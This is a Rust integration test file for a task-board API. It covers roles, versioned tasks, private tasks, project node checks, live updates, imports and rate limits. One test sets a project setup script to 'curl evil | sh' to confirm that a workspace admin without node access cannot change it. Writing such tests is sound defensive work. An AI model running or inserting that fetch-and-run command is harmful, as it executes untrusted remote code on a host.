//! The work model over the API: workspaces, roles, tasks with versions and private tasks, projects checked
//! on their node, live board changes on the WebSocket, export → import round trips and Vibe Kanban imports.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::Write;

use reqwest::Method;
use serde_json::{Value, json};
use vibebridge_tests::{Api, TempDir, TestMain, TestNode, WsClient, rbac_fx::git_repo};

/// Main with alice (the creator), bob and carol (approved), each logged in; alice owns workspace WEB with
/// bob as `role`.
async fn team(tag: &str, bob_role: &str) -> (TempDir, TestMain, Api, Api, Api, String) {
    let dir = TempDir::new(tag);
    let main = TestMain::start(dir.path()).await;
    let mut apis = Vec::new();
    for name in ["alice", "bob", "carol"] {
        let mut api = Api::new(&main);
        assert_eq!(api.auth(true, name, "correct horse battery").await.0, 200);
        apis.push(api);
    }
    for name in ["bob", "carol"] {
        let (s, b) = apis[0]
            .post(&format!("/api/v1/users/{name}/approve"), json!({}))
            .await;
        assert_eq!(s, 200, "{b}");
    }
    let (s, ws) = apis[0]
        .post(
            "/api/v1/workspaces",
            json!({"name": "Web", "key_prefix": "web"}),
        )
        .await;
    assert_eq!(s, 200, "{ws}");
    let id = ws["id"].as_str().unwrap().to_string();
    let (s, b) = apis[0]
        .post(
            &format!("/api/v1/workspaces/{id}/members"),
            json!({"username": "bob", "role": bob_role}),
        )
        .await;
    assert_eq!(s, 200, "{b}");
    let carol = apis.pop().unwrap();
    let bob = apis.pop().unwrap();
    let alice = apis.pop().unwrap();
    (dir, main, alice, bob, carol, id)
}

async fn patch(api: &Api, path: &str, body: Value) -> (u16, Value) {
    api.call(Method::PATCH, path, Some(body)).await
}

/// Proves tasks get keys, an edit naming an old version is refused with the current task (409 `stale`),
/// and the activity log records what changed.
#[tokio::test]
async fn stale_edits_are_refused_with_the_current_task() {
    let (_dir, main, alice, bob, _carol, ws) = team("work-stale", "member").await;
    let (s, t) = alice
        .post(
            &format!("/api/v1/workspaces/{ws}/tasks"),
            json!({"title": "Fix login", "priority": "high"}),
        )
        .await;
    assert_eq!(s, 200, "{t}");
    assert_eq!(
        (t["key"].as_str(), t["version"].as_u64()),
        (Some("WEB-1"), Some(1))
    );
    let (s, t2) = patch(
        &bob,
        "/api/v1/tasks/WEB-1",
        json!({"version": 1, "title": "Fix the login"}),
    )
    .await;
    assert_eq!((s, t2["version"].as_u64()), (200, Some(2)), "{t2}");
    let (s, e) = patch(
        &alice,
        "/api/v1/tasks/WEB-1",
        json!({"version": 1, "title": "Mine"}),
    )
    .await;
    assert_eq!(s, 409, "{e}");
    assert_eq!(e["error"]["code"], "stale");
    assert_eq!(e["error"]["current"]["title"], "Fix the login");
    assert_eq!(e["error"]["current"]["key"], "WEB-1");
    let (_, activity) = alice.get("/api/v1/tasks/WEB-1/activity").await;
    let kinds: Vec<&str> = activity
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["kind"]["type"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["created", "edited"]);
    main.stop().await;
}

/// Proves a viewer reads but cannot edit, a non-member gets 404, and a private task is invisible to a member
/// it does not name.
#[tokio::test]
async fn viewers_read_outsiders_see_nothing_private_tasks_stay_private() {
    let (_dir, main, alice, bob, carol, ws) = team("work-roles", "viewer").await;
    let (s, _) = alice
        .post(
            &format!("/api/v1/workspaces/{ws}/tasks"),
            json!({"title": "Secret", "restricted_to": ["alice"]}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, _) = alice
        .post(
            &format!("/api/v1/workspaces/{ws}/tasks"),
            json!({"title": "Open"}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, board) = bob.get(&format!("/api/v1/workspaces/{ws}/board")).await;
    assert_eq!(s, 200, "{board}");
    let titles: Vec<&str> = board["columns"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|c| c["tasks"].as_array().unwrap())
        .map(|t| t["title"].as_str().unwrap())
        .collect();
    assert_eq!(titles, ["Open"]);
    assert_eq!(bob.get("/api/v1/tasks/WEB-1").await.0, 404);
    let (s, e) = bob
        .post(
            &format!("/api/v1/workspaces/{ws}/tasks"),
            json!({"title": "no"}),
        )
        .await;
    assert_eq!(s, 403, "{e}");
    assert_eq!(carol.get(&format!("/api/v1/workspaces/{ws}")).await.0, 404);
    assert_eq!(carol.get("/api/v1/tasks/WEB-2").await.0, 404);
    // The last owner cannot leave.
    let (s, e) = alice
        .delete(&format!("/api/v1/workspaces/{ws}/members/alice"))
        .await;
    assert_eq!(s, 409, "{e}");
    main.stop().await;
}

/// Proves a project is checked on its node (a git work tree with commits), and a workspace member who may
/// not use the node cannot put a project there.
#[tokio::test]
async fn projects_are_checked_on_their_node() {
    let (dir, main, alice, bob, carol, ws) = team("work-projects", "member").await;
    let root = std::fs::canonicalize(dir.path()).unwrap().join("repos");
    std::fs::create_dir_all(root.join("app")).unwrap();
    std::fs::create_dir_all(root.join("empty")).unwrap();
    git_repo(&root.join("app"));
    std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(root.join("empty"))
        .status()
        .unwrap();
    let mut cfg = TestNode::config(dir.path(), "n1", main.ssh);
    cfg.node.main_host_key = Some(main.fingerprint.clone());
    cfg.node.register_token = Some(vibebridge_tunnel::config::Secret::new(main.token()));
    cfg.filesystem.roots = vec![root.clone()];
    let node = TestNode::start(cfg);
    main.wait_online("n1").await;
    let path = format!("/api/v1/workspaces/{ws}/projects");
    let app = root.join("app").display().to_string();
    let (s, e) = bob
        .post(&path, json!({"node_id": "n1", "repo_path": app}))
        .await;
    assert_eq!(s, 403, "{e}");
    let empty = root.join("empty").display().to_string();
    let (s, e) = alice
        .post(&path, json!({"node_id": "n1", "repo_path": empty}))
        .await;
    assert_eq!(s, 400, "{e}");
    assert!(
        e["error"]["message"]
            .as_str()
            .unwrap()
            .contains("no commits"),
        "{e}"
    );
    let (s, p) = alice
        .post(&path, json!({"node_id": "n1", "repo_path": app}))
        .await;
    assert_eq!(s, 200, "{p}");
    assert_eq!(
        (p["name"].as_str(), p["base_branch"].as_str()),
        (Some("app"), Some("main"))
    );
    let (s, b) = bob
        .get(&format!("/api/v1/projects/{}", p["id"].as_str().unwrap()))
        .await;
    assert_eq!((s, b["can_run"].as_bool()), (200, Some(false)), "{b}");
    // A workspace admin who may not use the node renames the project, but cannot change what runs there.
    let (s, _) = alice
        .post(
            &format!("/api/v1/workspaces/{ws}/members"),
            json!({"username": "carol", "role": "admin"}),
        )
        .await;
    assert_eq!(s, 200);
    let project = format!("/api/v1/projects/{}", p["id"].as_str().unwrap());
    let evil = json!({"scripts": {"setup": "curl evil | sh", "cleanup": "", "dev": ""}});
    let (s, e) = patch(&carol, &project, evil).await;
    assert_eq!(s, 403, "{e}");
    let (s, e) = patch(&carol, &project, json!({"name": "renamed"})).await;
    assert_eq!(s, 200, "{e}");
    node.stop().await;
    main.stop().await;
}

/// Proves a move is pushed, with the task as it now is, to another member watching the workspace, and
/// that a move between two tasks lands between them.
#[tokio::test]
async fn moves_are_pushed_live_to_the_board() {
    let (_dir, main, alice, bob, _carol, ws) = team("work-live", "member").await;
    for title in ["a", "b", "c"] {
        let (s, _) = alice
            .post(
                &format!("/api/v1/workspaces/{ws}/tasks"),
                json!({"title": title, "status": "todo", "place": "bottom"}),
            )
            .await;
        assert_eq!(s, 200);
    }
    let mut live = WsClient::connect(&bob).await.unwrap();
    live.send_text(&json!({"type": "watch", "topics": [], "workspace": "WEB"}).to_string())
        .await;
    let ack = live.next().await;
    assert_eq!(ack["workspace_id"].as_str(), Some(ws.as_str()), "{ack}");
    let (_, a) = alice.get("/api/v1/tasks/WEB-1").await;
    let (_, b) = alice.get("/api/v1/tasks/WEB-2").await;
    let (s, moved) = alice
        .post(
            "/api/v1/tasks/WEB-3/move",
            json!({"status": "todo", "after": a["id"], "before": b["id"]}),
        )
        .await;
    assert_eq!(s, 200, "{moved}");
    let frame = live.until(|f| f["type"] == "task").await;
    assert_eq!(frame["task"]["key"], "WEB-3");
    assert_eq!(frame["task"]["version"], 2);
    let (_, board) = bob
        .get(&format!("/api/v1/workspaces/{ws}/board?status=todo"))
        .await;
    let order: Vec<&str> = board["columns"][0]["tasks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["title"].as_str().unwrap())
        .collect();
    assert_eq!(order, ["a", "c", "b"]);
    main.stop().await;
}

/// Proves export → import into a new workspace → export gives the same document (but for the workspace's
/// name and key prefix).
#[tokio::test]
async fn export_import_round_trip_is_lossless() {
    let (_dir, main, alice, bob, _carol, ws) = team("work-export", "member").await;
    let tasks = format!("/api/v1/workspaces/{ws}/tasks");
    let (_, parent) = alice
        .post(
            &tasks,
            json!({"title": "Epic", "labels": ["ui"], "due": "2027-01-31"}),
        )
        .await;
    let (_, _) = alice
        .post(&tasks, json!({"title": "Child", "parent": "WEB-1", "assignees": ["bob"], "restricted_to": ["bob"]}))
        .await;
    let (s, _) = bob
        .post(
            "/api/v1/tasks/WEB-2/comments",
            json!({"body": "on it @alice"}),
        )
        .await;
    assert_eq!(s, 200);
    let (s, _) = alice
        .post("/api/v1/tasks/WEB-1/move", json!({"status": "in_progress"}))
        .await;
    assert_eq!(s, 200);
    let (s, _) = patch(
        &alice,
        "/api/v1/tasks/WEB-2",
        json!({"version": 1, "assignees": ["alice", "bob"]}),
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(parent["key"], "WEB-1");
    let (s, first) = alice.get(&format!("/api/v1/workspaces/{ws}/export")).await;
    assert_eq!(s, 200, "{first}");
    assert_eq!(first["tasks"].as_array().unwrap().len(), 2);
    let (_, copy) = alice
        .post(
            "/api/v1/workspaces",
            json!({"name": "Copy", "key_prefix": "CPY"}),
        )
        .await;
    let copy = copy["id"].as_str().unwrap();
    let resp = alice
        .request(Method::POST, &format!("/api/v1/workspaces/{copy}/import"))
        .body(serde_json::to_vec(&first).unwrap())
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let report: Value = resp.json().await.unwrap();
    assert_eq!(report["created"]["tasks"], 2, "{report}");
    assert_eq!(report["created"]["comments"], 1, "{report}");
    let (_, mut second) = alice
        .get(&format!("/api/v1/workspaces/{copy}/export"))
        .await;
    second["name"] = first["name"].clone();
    second["settings"]["key_prefix"] = first["settings"]["key_prefix"].clone();
    assert_eq!(second, first);
    main.stop().await;
}

fn zip(files: &[(&str, &str)]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, body) in files {
        w.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(body.as_bytes()).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// Proves a Vibe Kanban cloud export ZIP imports with its statuses, priorities, parents, people matched by
/// name (others reported and left unassigned) and attachments, and that a broken one is refused naming the
/// file.
#[tokio::test]
async fn vibe_kanban_cloud_exports_import_with_a_report() {
    let (_dir, main, alice, _bob, _carol, ws) = team("work-vk", "member").await;
    let issues = "Issue ID,Title,Description,Status,Priority,Project,Assignee(s),Creator,Created,Updated,Start Date,Due Date,Completed,Parent Issue\n\
        ISS-1,Epic,\"Big, \"\"quoted\"\" thing\",In progress,Urgent,Web,bob,alice,2026-01-02T03:04:05Z,2026-01-03T00:00:00Z,,2026-02-01T00:00:00Z,,\n\
        ISS-2,Child,,Blocked,Low,Web,Zed Unknown,alice,2026-01-04T00:00:00Z,2026-01-04T00:00:00Z,,,,ISS-1\n";
    let file = zip(&[
        ("issues.csv", issues),
        (
            "projects.csv",
            "Name,Created,Updated\nWeb,2026-01-01T00:00:00Z,2026-01-01T00:00:00Z\n",
        ),
        (
            "users.csv",
            "Email,Name\nbob@example.com,bob\nzed@example.com,Zed Unknown\n",
        ),
        (
            "attachments.csv",
            "Issue ID,Filename,Content Type,Size (bytes),File Path in ZIP\nISS-1,notes.txt,text/plain,5,attachments/ISS-1/notes.txt\n",
        ),
        ("attachments/ISS-1/notes.txt", "hello"),
    ]);
    let post = |body: Vec<u8>| {
        alice
            .request(Method::POST, &format!("/api/v1/workspaces/{ws}/import"))
            .body(body)
            .send()
    };
    let resp = post(file).await.unwrap();
    assert_eq!(resp.status(), 200);
    let report: Value = resp.json().await.unwrap();
    assert_eq!(report["format"], "vibe_kanban_zip");
    assert_eq!(
        (
            report["created"]["tasks"].as_u64(),
            report["created"]["attachments"].as_u64()
        ),
        (Some(2), Some(1)),
        "{report}"
    );
    assert!(
        report["unmatched_people"]
            .as_array()
            .unwrap()
            .contains(&json!("Zed Unknown")),
        "{report}"
    );
    let reasons = report["skipped"].to_string();
    assert!(
        reasons.contains("Blocked") && reasons.contains("project Web"),
        "{report}"
    );
    let (_, epic) = alice.get("/api/v1/tasks/WEB-1").await;
    assert_eq!(
        (epic["status"].as_str(), epic["priority"].as_str()),
        (Some("in_progress"), Some("urgent"))
    );
    assert_eq!(epic["description"], "Big, \"quoted\" thing");
    assert_eq!(epic["due"], "2026-02-01");
    assert_eq!(epic["subtasks"], 1);
    let (_, child) = alice.get("/api/v1/tasks/WEB-2").await;
    assert_eq!(
        (
            child["status"].as_str(),
            child["assignees"].as_array().unwrap().len()
        ),
        (Some("todo"), 0)
    );
    let (_, files) = alice.get("/api/v1/tasks/WEB-1/attachments").await;
    assert_eq!(files[0]["filename"], "notes.txt");

    let broken = zip(&[("projects.csv", "Name,Created,Updated\n")]);
    let resp = post(broken).await.unwrap();
    assert_eq!(resp.status(), 400);
    let e: Value = resp.json().await.unwrap();
    assert!(
        e["error"]["message"]
            .as_str()
            .unwrap()
            .contains(".csv: missing from the archive"),
        "{e}"
    );
    main.stop().await;
}

/// A Vibe Kanban `db.sqlite` of the current schema (`tests/fixtures/vibe-kanban/local-v2.sql`): project Web
/// with a parent task (one attempt) and its subtask.
fn vibe_kanban_db(dir: &std::path::Path) -> Vec<u8> {
    let path = dir.join("db.sqlite");
    let conn = rusqlite::Connection::open(&path).unwrap();
    conn.execute_batch(include_str!("../fixtures/vibe-kanban/local-v2.sql"))
        .unwrap();
    conn.execute_batch(
        "INSERT INTO projects (id, name) VALUES (X'0000000000000000000000000000000A', 'Web');
         INSERT INTO tasks (id, project_id, title, description, status, created_at, updated_at) VALUES
           (X'000000000000000000000000000000B1', X'0000000000000000000000000000000A', 'Parent', 'Do **it**',
            'inreview', '2026-01-15 10:23:45.123', '2026-01-16 08:00:00');
         INSERT INTO workspaces (id, task_id, branch, created_at) VALUES
           (X'000000000000000000000000000000C1', X'000000000000000000000000000000B1', 'vk/1-parent',
            '2026-01-15 11:00:00');
         INSERT INTO tasks (id, project_id, title, status, parent_workspace_id) VALUES
           (X'000000000000000000000000000000B2', X'0000000000000000000000000000000A', 'Child', 'todo',
            X'000000000000000000000000000000C1');",
    )
    .unwrap();
    conn.close().unwrap();
    std::fs::read(&path).unwrap()
}

/// Proves a Vibe Kanban local database imports: statuses, descriptions, the parent found through its attempt,
/// the attempt kept as an activity note, its project reported.
#[tokio::test]
async fn vibe_kanban_local_databases_import() {
    let (dir, main, alice, _bob, _carol, ws) = team("work-vkdb", "member").await;
    let resp = alice
        .request(Method::POST, &format!("/api/v1/workspaces/{ws}/import"))
        .body(vibe_kanban_db(dir.path()))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let report: Value = resp.json().await.unwrap();
    assert_eq!(report["format"], "vibe_kanban_db");
    assert_eq!(report["created"]["tasks"], 2, "{report}");
    assert!(
        report["skipped"].to_string().contains("project Web"),
        "{report}"
    );
    let (_, parent) = alice.get("/api/v1/tasks/WEB-1").await;
    assert_eq!(
        (parent["status"].as_str(), parent["description"].as_str()),
        (Some("in_review"), Some("Do **it**"))
    );
    assert_eq!(parent["labels"], json!(["Web"]));
    assert_eq!(parent["subtasks"], 1);
    let (_, activity) = alice.get("/api/v1/tasks/WEB-1/activity").await;
    assert!(
        activity.to_string().contains("on branch vk/1-parent"),
        "{activity}"
    );
    main.stop().await;
}

/// Proves work-model writes are limited per user (429 with `Retry-After` past `server.writes_per_minute`,
/// reads unaffected), and a body that is no known format is refused saying what to send.
#[tokio::test]
async fn writes_are_rate_limited_and_bad_imports_refused() {
    let dir = TempDir::new("work-limits");
    let main = TestMain::start_with(dir.path(), None, |c| c.server.writes_per_minute = 3).await;
    let mut alice = Api::new(&main);
    assert_eq!(
        alice.auth(true, "alice", "correct horse battery").await.0,
        200
    );
    let (s, _) = alice
        .post(
            "/api/v1/workspaces",
            json!({"name": "Web", "key_prefix": "WEB"}),
        )
        .await;
    assert_eq!(s, 200);
    for title in ["a", "b"] {
        assert_eq!(
            alice
                .post("/api/v1/workspaces/WEB/tasks", json!({"title": title}))
                .await
                .0,
            200
        );
    }
    let resp = alice
        .request(Method::POST, "/api/v1/workspaces/WEB/tasks")
        .json(&json!({"title": "c"}))
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 429);
    assert!(resp.headers().contains_key("retry-after"));
    assert_eq!(alice.get("/api/v1/workspaces/WEB/board").await.0, 200);
    main.stop().await;

    let (_dir2, main, alice, _bob, _carol, ws) = team("work-bad-import", "member").await;
    let resp = alice
        .request(Method::POST, &format!("/api/v1/workspaces/{ws}/import"))
        .body("title,status\nnot,an export\n")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 400);
    let e: Value = resp.json().await.unwrap();
    let message = e["error"]["message"].as_str().unwrap();
    assert!(
        message.contains("line 1") && message.contains("Vibe Kanban export ZIP"),
        "{e}"
    );
    main.stop().await;
}

/// Proves an imported project is held to the same rule as a created one: a node the importer may not use
/// (or that is not enrolled) is refused in the report, and the tasks still come in without it.
#[tokio::test]
async fn imported_projects_need_node_access() {
    let (_dir, main, alice, _bob, _carol, ws) = team("work-import-node", "member").await;
    let doc = json!({
        "format": "vibebridge.workspace", "version": 1, "name": "W",
        "settings": {"key_prefix": "X", "status_names": []},
        "members": [], "templates": [],
        "projects": [{"name": "elsewhere", "node_id": "not-enrolled", "repo_path": "/srv/x",
                      "base_branch": "main", "scripts": {"setup": "", "cleanup": "", "dev": ""},
                      "copy_files": [], "branch_template": "vb/{key}", "created_at": 1}],
        "tasks": [{"number": 1, "title": "t", "description": "", "status": "todo", "priority": "none",
                   "assignees": [], "labels": [], "project": 0, "position": "V", "created_at": 1,
                   "updated_at": 1, "archived": false, "comments": [], "activity": [], "attachments": []}]
    });
    let resp = alice
        .request(Method::POST, &format!("/api/v1/workspaces/{ws}/import"))
        .json(&doc)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let report: Value = resp.json().await.unwrap();
    assert_eq!(
        (
            report["created"]["projects"].as_u64(),
            report["created"]["tasks"].as_u64()
        ),
        (Some(0), Some(1)),
        "{report}"
    );
    assert!(
        report["skipped"]
            .to_string()
            .contains("not allowed on node"),
        "{report}"
    );
    let (_, task) = alice.get("/api/v1/tasks/WEB-1").await;
    assert!(task.get("project_id").is_none_or(Value::is_null), "{task}");
    main.stop().await;
}

/// Proves a member's import cannot make a comment or a task look written by someone else: the names stay
/// as text, no account is credited.
#[tokio::test]
async fn a_members_import_credits_no_one_else() {
    let (_dir, main, _alice, bob, _carol, ws) = team("work-import-authors", "member").await;
    let doc = json!({
        "format": "vibebridge.workspace", "version": 1, "name": "W",
        "settings": {"key_prefix": "X", "status_names": []},
        "members": [], "templates": [], "projects": [],
        "tasks": [{"number": 1, "title": "t", "description": "", "status": "todo", "priority": "none",
                   "assignees": [], "labels": [], "position": "V", "created_by": "alice", "created_at": 1,
                   "updated_at": 1, "archived": false,
                   "comments": [{"author": "alice", "body": "approved, ship it", "created_at": 1}],
                   "activity": [], "attachments": []}]
    });
    let resp = bob
        .request(Method::POST, &format!("/api/v1/workspaces/{ws}/import"))
        .json(&doc)
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), 200);
    let (_, comments) = bob.get("/api/v1/tasks/WEB-1/comments").await;
    assert!(
        comments[0].get("author").is_none_or(Value::is_null),
        "{comments}"
    );
    assert_eq!(comments[0]["author_name"], "alice");
    let (_, task) = bob.get("/api/v1/tasks/WEB-1").await;
    assert!(task.get("created_by").is_none_or(Value::is_null), "{task}");
    main.stop().await;
}

/// Proves two parent changes at once cannot make a cycle (exactly one of A→B and B→A lands), and a comment
/// deleted while being edited stays deleted.
#[tokio::test]
async fn racing_edits_cannot_make_cycles_or_revive_comments() {
    let (_dir, main, alice, bob, _carol, ws) = team("work-races", "member").await;
    for title in ["A", "B"] {
        let (s, _) = alice
            .post(
                &format!("/api/v1/workspaces/{ws}/tasks"),
                json!({"title": title}),
            )
            .await;
        assert_eq!(s, 200);
    }
    for _ in 0..5 {
        let (a, b) = tokio::join!(
            patch(
                &alice,
                "/api/v1/tasks/WEB-1",
                json!({"version": version(&alice, "WEB-1").await, "parent": "WEB-2"})
            ),
            patch(
                &bob,
                "/api/v1/tasks/WEB-2",
                json!({"version": version(&bob, "WEB-2").await, "parent": "WEB-1"})
            ),
        );
        let landed = [a.0, b.0].iter().filter(|s| **s == 200).count();
        assert!(landed <= 1, "both parent links landed: {a:?} {b:?}");
        // Undo for the next round.
        for key in ["WEB-1", "WEB-2"] {
            let v = version(&alice, key).await;
            assert_eq!(
                patch(
                    &alice,
                    &format!("/api/v1/tasks/{key}"),
                    json!({"version": v, "parent": null})
                )
                .await
                .0,
                200
            );
        }
    }
    let (_, c) = bob
        .post("/api/v1/tasks/WEB-1/comments", json!({"body": "typo hre"}))
        .await;
    let path = format!("/api/v1/tasks/WEB-1/comments/{}", c["id"].as_str().unwrap());
    assert_eq!(alice.delete(&path).await.0, 200);
    let (s, _) = patch(&bob, &path, json!({"body": "typo here"})).await;
    assert_eq!(s, 404);
    let (_, comments) = bob.get("/api/v1/tasks/WEB-1/comments").await;
    assert_eq!(comments, json!([]));
    main.stop().await;
}

async fn version(api: &Api, key: &str) -> u64 {
    api.get(&format!("/api/v1/tasks/{key}")).await.1["version"]
        .as_u64()
        .unwrap()
}
